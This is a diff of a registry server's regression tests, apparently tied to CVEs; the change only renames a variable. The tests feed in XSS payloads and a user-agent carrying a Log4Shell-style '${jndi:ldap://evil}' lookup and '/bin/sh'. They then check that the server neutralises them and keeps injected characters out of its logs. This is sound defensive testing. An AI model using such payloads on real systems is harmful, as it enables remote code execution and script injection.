@@ -10,11 +10,11 @@ test('CVE-2025-32019: a blob that is a page runs in no browser', async () => {
   for (const content of ['<script>alert(1)</script>', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>']) {
     const blob = blobOf(content, 'text/html');
     await pushBlobs(server().admin, 'page', blob);
-    const answer = await server().admin.getBlob('page', blob.digest, { headers: { accept: 'text/html' } });
-    expect(answer.text()).toBe(content);
-    expect(answer.header('content-type')).toBe('application/octet-stream');
-    expect(answer.header('x-content-type-options')).toBe('nosniff');
-    expect(answer.header('content-security-policy')).toBe("sandbox; default-src 'none'");
+    const response = await server().admin.getBlob('page', blob.digest, { headers: { accept: 'text/html' } });
+    expect(response.text()).toBe(content);
+    expect(response.header('content-type')).toBe('application/octet-stream');
+    expect(response.header('x-content-type-options')).toBe('nosniff');
+    expect(response.header('content-security-policy')).toBe("sandbox; default-src 'none'");
   }
 });
 
@@ -24,10 +24,10 @@ test('CVE-2021-41190: a manifest comes back as it was pushed, byte for byte and 
   const plain = imageOf(config, [], { mediaType: undefined });
   expect((await server().admin.pushManifest('typed', 'v1', plain)).status).toBe(201);
   for (const accept of ['*/*', mediaTypes.ociIndex, mediaTypes.dockerManifest, 'text/html']) {
-    const answer = await server().admin.getManifest('typed', 'v1', { headers: { accept } });
-    expect(answer.header('content-type')).toBe(mediaTypes.ociManifest);
-    expect(answer.header('docker-content-digest')).toBe(digestOf(answer.body));
-    expect(Buffer.compare(answer.body, plain.bytes)).toBe(0);
+    const response = await server().admin.getManifest('typed', 'v1', { headers: { accept } });
+    expect(response.header('content-type')).toBe(mediaTypes.ociManifest);
+    expect(response.header('docker-content-digest')).toBe(digestOf(response.body));
+    expect(Buffer.compare(response.body, plain.bytes)).toBe(0);
   }
 });
 
@@ -46,14 +46,14 @@ describe('CVE-2026-53488: what an image says of itself is data', () => {
     const fields = { annotations, artifactType: 'application/evil', subject: descriptorOf(subject) };
     expect((await server().admin.pushManifest('evil', 'v1', imageOf(config, [], fields))).status).toBe(201);
     const agent = 'agent ${jndi:ldap://evil} binary:///bin/sh';
-    for (const answer of [
+    for (const response of [
       await server().admin.getManifest('evil', 'v1', { headers: { 'user-agent': agent } }),
       await server().admin.headManifest('evil', 'v1'),
       await server().admin.referrers('evil', subject.digest),
       await server().admin.getBlob('evil', config.digest),
     ]) {
-      expect(answer.status).toBe(200);
-      expect(JSON.stringify(answer.headers).toLowerCase()).not.toContain('evil');
+      expect(response.status).toBe(200);
+      expect(JSON.stringify(response.headers).toLowerCase()).not.toContain('evil');
     }
     for (const line of server().logLines) {
       for (const character of ['\n', '\r', '\u001b']) expect(line.trimEnd()).not.toContain(character);
